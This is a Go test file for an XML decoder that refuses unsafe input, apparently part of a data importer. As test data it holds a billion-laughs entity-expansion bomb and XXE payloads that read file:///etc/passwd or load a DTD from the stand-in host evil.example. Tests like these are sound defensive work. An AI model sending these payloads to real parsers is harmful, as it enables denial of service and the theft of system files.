package xmlsafe

import (
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/parley-dev/parley/server/importer/source"
	"github.com/parley-dev/parley/server/importer/source/sourcetest"
)

// read reads a whole file and returns the texts of its <a> elements, the
// others' children read in turn.
func read(r io.Reader) ([]string, error) {
	d := NewDecoder(r, "test")
	if _, err := d.Root(); err != nil {
		return nil, err
	}
	var texts []string
	var fn func(xml.StartElement) error
	fn = func(el xml.StartElement) error {
		if el.Name.Local != "a" {
			return d.Children(fn)
		}
		s, err := d.Text(el)
		texts = append(texts, s)
		return err
	}
	if err := d.Children(fn); err != nil {
		return nil, err
	}
	return texts, d.End()
}

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ELEMENT lolz (#PCDATA)>
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz><a>&lol9;</a></lolz>`

func TestRefused(t *testing.T) {
	for name, c := range map[string]struct{ xml, msg string }{
		"billion laughs":   {billionLaughs, "test: line 14: the file declares entities; refused"},
		"external entity":  {`<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r><a>&xxe;</a></r>`, "declares entities"},
		"parameter entity": {`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>`, "declares entities"},
		"lower case":       {`<!DOCTYPE r [<!entity x "y">]><r/>`, "declares entities"},
		"external DTD":     {`<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>`, "names an external DTD"},
		"other directive":  {`<r><!ELEMENT r ANY><a>x</a></r>`, "other than DOCTYPE"},
		"undeclared":       {`<r><a>&nbsp;</a></r>`, "malformed XML at line 1: invalid character entity &nbsp;"},
		"malformed":        {"<r>\n<a>x</b></r>", "malformed XML at line 2"},
		"truncated":        {"<r><a>x</a>", "unexpected EOF"},
		"bad UTF-8":        {"<r><a>\xff</a></r>", "invalid UTF-8"},
		"charset":          {`<?xml version="1.0" encoding="KOI8-R"?><r/>`, `encoded in "KOI8-R"`},
		"text first":       {`hello <r/>`, "not an XML file"},
		"empty":            {"", "holds no XML element"},
		"two roots":        {`<r/><r/>`, "content after the end"},
		"nested":           {`<r><a><b/></a></r>`, "<a> holds an element <b>"},
		"deep":             {strings.Repeat("<r>", maxDepth+1), "nested more than 100 deep"},
		"oversized field":  {"<r><a>" + strings.Repeat("x", source.MaxField+1) + "</a></r>", "<a> is longer than 1048576 bytes"},
		"split field": {"<r><a>" + strings.Repeat("x", source.MaxField) + "<!-- -->y</a></r>",
			"<a> is longer than"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := read(strings.NewReader(c.xml))
			if !errors.Is(err, source.ErrFormat) {
				t.Fatalf("error %v, want ErrFormat", err)
			}
			if !strings.Contains(err.Error(), c.msg) {
				t.Errorf("error %q, want it to say %q", err, c.msg)
			}
		})
	}
}

func TestAccepted(t *testing.T) {
	for name, c := range map[string]struct{ xml, want string }{
		"plain DOCTYPE": {`<!DOCTYPE r><r><a>x</a></r>`, "x"},
		"DTD subset":    {`<!DOCTYPE r [<!ELEMENT r ANY>]><r><a>x</a></r>`, "x"},
		"byte order":    {"\uFEFF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<r><a>x</a></r>\n", "x"},
		"predefined":    {`<r><a>&lt;b&gt; &amp; &#233;&#x1F389;</a></r>`, "<b> & é🎉"},
		"CDATA":         {`<r><a><![CDATA[<p>&amp;</p>]]> and <![CDATA[more]]></a></r>`, "<p>&amp;</p> and more"},
		"windows-1252":  {"<?xml version=\"1.0\" encoding=\"windows-1252\"?><r><a>\x93caf\xe9\x94</a></r>", "“café”"},
		"max field":     {"<r><a>" + strings.Repeat("x", source.MaxField) + "</a></r>", strings.Repeat("x", source.MaxField)},
	} {
		t.Run(name, func(t *testing.T) {
			texts, err := read(strings.NewReader(c.xml))
			if err != nil {
				t.Fatal(err)
			}
			if len(texts) != 1 || texts[0] != c.want {
				t.Errorf("texts %.80q, want [%.80q]", texts, c.want)
			}
		})
	}
}

// TestEndlessToken feeds tokens that never end and checks they are refused
// after reading not much more than maxToken bytes (an endless text may be
// refused as too long a field first).
func TestEndlessToken(t *testing.T) {
	for name, start := range map[string]string{
		"text":      "<r><a>",
		"CDATA":     "<r><a><![CDATA[",
		"comment":   "<r><!--",
		"attribute": `<r a="`,
		"name":      "<r",
		"DOCTYPE":   "<!DOCTYPE r [",
		"space":     "<r>",
	} {
		t.Run(name, func(t *testing.T) {
			fill := sourcetest.Endless('x')
			if name == "space" {
				fill = ' '
			}
			c := sourcetest.Counting(io.MultiReader(strings.NewReader(start), fill))
			_, err := read(c)
			if !errors.Is(err, source.ErrFormat) || !strings.Contains(err.Error(), "longer than") {
				t.Fatalf("error %v, want a refused token", err)
			}
			if c.N > maxToken+64<<10 {
				t.Errorf("read %d bytes, want about %d", c.N, maxToken)
			}
		})
	}
}

func TestReadError(t *testing.T) {
	broken := errors.New("disk on fire")
	r := io.MultiReader(strings.NewReader("<r><a>x"), sourcetest.Failing(broken))
	_, err := read(r)
	if !errors.Is(err, broken) || errors.Is(err, source.ErrFormat) {
		t.Errorf("error %v, want the reader's, not ErrFormat", err)
	}
}
